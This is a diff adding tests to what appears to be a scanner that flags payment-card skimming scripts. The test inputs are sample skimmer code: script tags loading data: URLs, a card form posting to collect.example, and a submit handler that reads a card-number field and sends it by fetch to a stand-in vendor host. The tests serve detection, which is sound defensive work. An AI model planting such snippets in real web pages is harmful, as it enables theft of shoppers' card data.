@@ -64,3 +64,38 @@ describe('a card form written by a script that sends nothing', () => {
     expect(sends.findings.find((x) => x.rule === 'fake-payment-form')?.points).toBe(35)
   })
 })
+
+describe('carried code and sends, as browsers read them', () => {
+  it('a data: address with a stray % or no type is still read', () => {
+    const stray = `data:text/javascript,${encodeURIComponent(SKIM)}//%zz`
+    expect(
+      layersOf(`var s = document.createElement('script'); s.src = ${JSON.stringify(stray)}`)[0],
+    ).toContain('cc_number')
+    const untyped = `data:;base64,${Buffer.from(SKIM).toString('base64')}`
+    expect(
+      layersOf(`var s = document.createElement('script'); s.src = ${JSON.stringify(untyped)}`),
+    ).toContain(SKIM)
+  })
+
+  it('a card form that posts itself to another host is the full finding, sends or not', () => {
+    const v = analyzeScript(
+      `el.innerHTML = '<form action="https://collect.example/p"><input name="cardnumber"></form>'`,
+    )
+    expect(v.findings.find((f) => f.rule === 'fake-payment-form')?.points).toBe(35)
+  })
+
+  it('keepalive written as !0 is keepalive', () => {
+    const ctx = {
+      url: 'https://cdn.vendor.example/w.js',
+      pageUrl: 'https://www.shop.example/checkout/',
+    }
+    const v = analyzeScript(
+      `document.addEventListener('submit', function () { var n = document.querySelector('#cc_number').value;
+        fetch('https://api.vendor.example/v', { method: 'POST', keepalive: !0, body: JSON.stringify({ n: n }) }) })`,
+      ctx,
+    )
+    expect(v.findings.some((f) => f.rule === 'card-field-read-and-send' && f.points >= 30)).toBe(
+      true,
+    )
+  })
+})
